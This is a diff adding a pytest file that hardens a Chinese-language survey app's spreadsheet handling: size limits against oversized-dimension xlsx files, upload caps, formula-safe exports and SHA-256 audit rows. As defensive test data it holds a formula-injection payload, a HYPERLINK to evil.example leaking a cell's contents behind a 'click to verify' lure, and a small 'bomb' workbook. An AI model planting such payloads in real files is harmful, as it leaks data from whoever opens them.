@@ -1,0 +1,192 @@
+"""Files from and to users (Hardening II): a spreadsheet's size is checked before any reader
+allocates it, the upload limit is ours, every export writes user text as text and leaves an audit
+row, and an import's audit row names the file by its SHA-256."""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import json
+import re
+import subprocess
+import sys
+import tomllib
+import zipfile
+
+import pytest
+from openpyxl import Workbook, load_workbook
+
+from survey import companies, questionnaires, spreadsheets
+from survey import db as store
+from survey.auth import SYSTEM
+from survey.xlsform.loader import FormLoadError, load_xlsform
+from tests.conftest import ROOT, actor_for
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2, "点此核验")'
+
+
+def xlsx(cells: dict[str, str]) -> bytes:
+    workbook = Workbook()
+    for ref, value in cells.items():
+        workbook.active[ref] = value
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+def rewrite_sheet(data: bytes, change) -> bytes:
+    """The same workbook with sheet1's XML passed through `change`."""
+    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for info in source.infolist():
+            content = source.read(info)
+            if info.filename == "xl/worksheets/sheet1.xml":
+                content = change(content)
+            target.writestr(info, content)
+    return out.getvalue()
+
+
+BOMB = xlsx({"A1": "企业名称", "XFD1048576": "x"})  # 1.6 KB, declares 1,048,576 x 16,384
+
+
+def run_cli(*args: str) -> subprocess.CompletedProcess:
+    return subprocess.run(
+        [sys.executable, "-m", "survey", *args], capture_output=True, text=True, cwd=ROOT,
+        timeout=120,
+    )  # fmt: skip
+
+
+@pytest.mark.parametrize("command", ["import-companies", "load-form"])
+def test_cli_refuses_a_sheet_that_declares_a_huge_dimension(tmp_path, command):
+    """Before the check, calamine aborted the process trying to allocate 512 GB."""
+    bomb = tmp_path / "bomb.xlsx"
+    bomb.write_bytes(BOMB)
+    assert len(BOMB) < 6000
+    db_args = ["--db", str(tmp_path / "x.db")] if command == "import-companies" else []
+    result = run_cli(command, str(bomb), *db_args)
+    assert result.returncode == 2, result
+    assert "范围过大" in result.stderr and "200,000 行 × 60 列" in result.stderr
+    assert "Traceback" not in result.stderr
+
+
+def test_declared_dimension_alone_is_refused():
+    """A1:CV100000 (100 columns) declared, two real cells: refused before reading."""
+    data = rewrite_sheet(
+        xlsx({"A1": "a", "B2": "b"}),
+        lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:CV100000"', xml),
+    )
+    with pytest.raises(spreadsheets.SpreadsheetTooLargeError, match="100,000 行 × 100 列"):
+        companies.read_table(data, "wide.xlsx")
+    with pytest.raises(FormLoadError, match="范围过大"):
+        load_xlsform(data, "wide.xlsx")
+
+
+def test_real_cells_beyond_the_limit_are_refused_without_a_dimension():
+    data = rewrite_sheet(
+        xlsx({"A1": "a", "BZ3": "far"}), lambda xml: re.sub(rb"<dimension [^>]*/>", b"", xml)
+    )
+    with pytest.raises(spreadsheets.SpreadsheetTooLargeError, match="3 行 × 78 列"):
+        companies.read_table(data, "far.xlsx")
+
+
+def test_csv_beyond_the_column_limit_is_refused():
+    data = ",".join(f"列{i}" for i in range(61)).encode()
+    with pytest.raises(spreadsheets.SpreadsheetTooLargeError, match="61 列"):
+        companies.read_table(data, "wide.csv")
+
+
+def test_a_registry_sized_file_still_reads():
+    rows = [companies.HEADERS] + [[f"企业{i}", "x"] + [""] * 10 for i in range(2000)]
+    workbook = Workbook(write_only=True)
+    sheet = workbook.create_sheet("s")
+    for row in rows:
+        sheet.append(row)
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    headers, read = companies.read_table(buffer.getvalue(), "ok.xlsx")
+    assert headers == companies.HEADERS and len(read) == 2000
+
+
+def test_upload_limit_is_set_for_our_files_and_said_beside_each_uploader():
+    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
+    assert 0 < config["server"]["maxUploadSize"] <= 20  # Streamlit's default is 200
+    from streamlit.testing.v1 import AppTest
+
+    uploaders = 0
+    for path in (ROOT / "ui").glob("*.py"):
+        uploaders += path.read_text().count("uploads.file_uploader(")
+    for path in (ROOT / "pages").glob("*.py"):
+        text = path.read_text()
+        uploaders += text.count("uploads.file_uploader(")
+        assert "st.file_uploader(" not in text, path
+    assert uploaders >= 5
+    script = (
+        "import streamlit as st\nfrom ui import uploads\n"
+        "uploads.file_uploader('照片', uploads.PHOTO_TYPES, 'p')\n"
+    )
+    at = AppTest.from_string(script).run()
+    assert f"单个文件不超过 {config['server']['maxUploadSize']} MB" in at.caption[0].value
+
+
+def test_company_export_writes_names_as_text_and_is_audited(db):
+    company_id = store.scalar(db, "SELECT min(id) FROM companies")
+    db.execute("UPDATE companies SET name = ? WHERE id = ?", (FORMULA, company_id))
+    buffer = io.BytesIO()
+    count = companies.export_xlsx(db, actor_for(db, "admin"), buffer)
+    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
+    cell = next(c for (c,) in sheet.iter_rows(min_col=1, max_col=1) if c.value == FORMULA)
+    assert cell.data_type == "s"
+    assert count == store.scalar(db, "SELECT count(*) FROM companies") == sheet.max_row - 1
+    row = db.conn.execute(
+        "SELECT actor_name, table_name, after FROM audit_log ORDER BY id DESC LIMIT 1"
+    ).fetchone()
+    assert row[:2] == ("admin", "companies") and json.loads(row[2]) == {"companies": count}
+
+
+def test_answer_export_writes_answers_as_text_and_is_audited(db):
+    form_id = "visit"
+    qid, form = questionnaires.current(db, SYSTEM, form_id)
+    question = next(q.name for q, repeat in form.walk() if q.type == "text" and repeat is None)
+    db.execute(
+        "INSERT INTO answers (questionnaire_id, visit_id, question, value) VALUES (?, ?, ?, ?)",
+        (qid, store.scalar(db, "SELECT min(id) FROM visits"), question, json.dumps(FORMULA)),
+    )
+    buffer = io.BytesIO()
+    counts = questionnaires.export_answers(db, actor_for(db, "admin"), form_id, buffer)
+    book = load_workbook(io.BytesIO(buffer.getvalue()))
+    cells = [c for row in book.worksheets[0].iter_rows() for c in row if c.value == FORMULA]
+    assert cells and all(c.data_type == "s" for c in cells)
+    row = db.conn.execute(
+        "SELECT table_name, row_id, after FROM audit_log ORDER BY id DESC LIMIT 1"
+    ).fetchone()
+    assert row[:2] == ("answers", form_id) and json.loads(row[2]) == counts
+
+
+def test_import_problems_report_writes_text(db):
+    report = companies.problems_report([{"行号": 2, "字段": "企业名称", "问题": FORMULA}])
+    cell = load_workbook(io.BytesIO(report)).active["C2"]
+    assert cell.value == FORMULA and cell.data_type == "s"
+
+
+def test_company_import_audit_row_names_the_file_by_its_hash(tmp_path, db):
+    buffer = io.BytesIO()
+    companies.export_xlsx(db, SYSTEM, buffer)
+    data = buffer.getvalue()
+    headers, rows = companies.read_table(data, "名录.xlsx")
+    digest = hashlib.sha256(data).hexdigest()
+    companies.import_companies(db, SYSTEM, headers, rows, source="名录.xlsx", sha256=digest)
+    after = json.loads(
+        store.scalar(db, "SELECT after FROM audit_log WHERE action = 'import' ORDER BY id DESC")
+    )
+    assert after == {
+        "inserted": 0, "updated": 0, "unchanged": len(rows), "file": "名录.xlsx", "sha256": digest
+    }  # fmt: skip
+    # The command line records the same.
+    path = tmp_path / "名录.xlsx"
+    path.write_bytes(data)
+    db_path = db.conn.execute("PRAGMA database_list").fetchone()[2]
+    assert run_cli("import-companies", str(path), "--db", db_path).returncode == 0
+    after = json.loads(
+        store.scalar(db, "SELECT after FROM audit_log WHERE action = 'import' ORDER BY id DESC")
+    )
+    assert after["sha256"] == digest
